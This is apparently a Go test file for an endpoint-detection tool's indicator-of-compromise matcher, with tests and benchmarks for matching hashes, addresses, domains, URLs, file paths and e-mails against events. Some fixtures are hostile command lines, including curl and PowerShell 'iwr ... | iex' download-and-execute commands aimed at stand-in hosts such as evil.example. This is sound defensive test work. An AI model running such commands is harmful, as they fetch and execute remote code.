package ioc_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/edrctl/edrctl/internal/ioc"
	"github.com/edrctl/edrctl/internal/model"
)

func TestMatcher(t *testing.T) {
	lines := []string{
		sha256, md5, "imphash:" + strings.Repeat("0c", 16), "192.0.2.7", "10.1.0.0/16", "2001:db8::/32", "evil.example",
		"hxxp://drop.example/a.php", "d.dll", `C:\Users\Public\stage.ps1`, "process:rclone.exe", "bad@evil.test",
	}
	l := read(t, strings.Join(lines, "\n"))
	if l.Len() != len(lines) {
		t.Fatal(l.Unread)
	}
	all := l.Hunted(true)
	m := ioc.NewMatcher(all, l.Rules...)
	match := func(e *model.Event) []string {
		var out []string
		m.Match(e, func(f ioc.Found) { out = append(out, all[f.Indicator].String()) })
		slices.Sort(out)
		return slices.Compact(out)
	}
	process := func(p model.Process) *model.Event { return &model.Event{Process: &p} }
	network := func(ip, domain string) *model.Event {
		return &model.Event{Network: &model.Network{Destination: &model.Endpoint{IP: ip, Domain: domain}}}
	}
	for name, c := range map[string]struct {
		e    *model.Event
		want []string
	}{
		"hash of the image":     {process(model.Process{Hash: &model.Hash{SHA256: strings.ToUpper(sha256)}}), []string{"sha256:" + sha256}},
		"md5 is not an imphash": {process(model.Process{Hash: &model.Hash{Imphash: md5}}), nil},
		"target":                {&model.Event{Target: &model.Process{Hash: &model.Hash{MD5: md5}}}, []string{"md5:" + md5}},
		"module":                {&model.Event{Module: &model.Module{Path: `c:\x\D.DLL`}}, []string{"file_name:d.dll"}},
		"file path, any case":   {&model.Event{File: &model.File{Path: `c:\users\public\STAGE.ps1`}}, []string{`file_path:C:\Users\Public\stage.ps1`}},
		"process name":          {process(model.Process{Name: "RClone.exe", Path: `C:\t\rclone.exe`}), []string{"process_name:rclone.exe"}},
		"address":               {network("192.0.2.7", ""), []string{"ipv4:192.0.2.7"}},
		"mapped address":        {network("::ffff:192.0.2.7", ""), []string{"ipv4:192.0.2.7"}},
		"neighbouring address":  {network("192.0.2.77", ""), nil},
		"range":                 {network("10.1.255.3", ""), []string{"cidr:10.1.0.0/16"}},
		"range, v6":             {network("2001:db8:9::1", ""), []string{"cidr:2001:db8::/32"}},
		"domain":                {network("", "evil.example"), []string{"domain:evil.example"}},
		"subdomain":             {network("", "a.b.EVIL.example."), []string{"domain:evil.example"}},
		"no suffix of a label":  {network("", "notevil.example"), nil},
		"dns":                   {&model.Event{DNS: &model.DNS{Question: model.DNSQuestion{Name: "x.evil.example"}}}, []string{"domain:evil.example"}},
		"url in a command line": {process(model.Process{CommandLine: `curl -o x "http://DROP.example/a.php" && x`}), []string{"url:http://drop.example/a.php"}},
		"host of a url":         {process(model.Process{CommandLine: `iwr https://u@cdn.evil.example:8443/p?q=1|iex`}), []string{"domain:evil.example"}},
		"address of a url":      {process(model.Process{CommandLine: `wget http://192.0.2.7/x`}), []string{"ipv4:192.0.2.7"}},
		"e-mail":                {process(model.Process{CommandLine: `mail -t <bad@EVIL.test>`}), []string{"email:bad@evil.test"}},
		"e-mail before a url":   {process(model.Process{CommandLine: `send -t bad@evil.test http://x.test/a`}), []string{"email:bad@evil.test"}},
		"url of a download":     {&model.Event{URL: "https://drop.example/b", File: &model.File{Path: `C:\x`}}, nil},
		"download, exactly":     {&model.Event{URL: "HTTP://drop.example/a.php"}, []string{"url:http://drop.example/a.php"}},
		"nothing":               {&model.Event{}, nil},
	} {
		if got := match(c.e); !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
}

func benchmarkMatch(b *testing.B, n int) {
	var list []ioc.Indicator
	for i := range n {
		switch i % 4 {
		case 0:
			list = append(list, ioc.Indicator{Type: ioc.SHA256, Value: fmt.Sprintf("%064x", i)})
		case 1:
			list = append(list, ioc.Indicator{Type: ioc.Domain, Value: fmt.Sprintf("h%d.example", i)})
		case 2:
			list = append(list, ioc.Indicator{Type: ioc.IPv4, Value: fmt.Sprintf("10.%d.%d.%d", i>>16&255, i>>8&255, i&255)})
		case 3:
			list = append(list, ioc.Indicator{Type: ioc.FileName, Value: fmt.Sprintf("f%d.exe", i)})
		}
	}
	m := ioc.NewMatcher(list)
	e := &model.Event{
		Process: &model.Process{Name: "svchost.exe", Path: `C:\Windows\System32\svchost.exe`, CommandLine: "svchost.exe -k netsvcs -p", Hash: &model.Hash{SHA256: sha256, SHA1: sha1}},
		File:    &model.File{Path: `C:\Windows\Temp\a.tmp`},
		Network: &model.Network{Source: &model.Endpoint{IP: "10.20.1.2"}, Destination: &model.Endpoint{IP: "203.0.113.7", Domain: "www.vendor.example"}},
	}
	b.ReportAllocs()
	for b.Loop() {
		m.Match(e, func(ioc.Found) {})
	}
}

func BenchmarkMatch10(b *testing.B)     { benchmarkMatch(b, 10) }
func BenchmarkMatch100000(b *testing.B) { benchmarkMatch(b, 100_000) }

// An address or a name that was only the answer of a lookup is found.
func TestMatchLooksAtDNSAnswers(t *testing.T) {
	l := read(t, "192.0.2.7\nevil.example")
	m := ioc.NewMatcher(l.Hunted(true))
	e := &model.Event{DNS: &model.DNS{
		Question: model.DNSQuestion{Name: "good.test"},
		Answers:  []model.DNSAnswer{{Type: "CNAME", Data: "cdn.evil.example"}, {Type: "A", Data: "192.0.2.7"}},
	}}
	seen := map[string]bool{}
	m.Match(e, func(f ioc.Found) { seen[l.At(f.Indicator).Value] = true })
	if !seen["192.0.2.7"] || !seen["evil.example"] {
		t.Errorf("found %v", seen)
	}
}
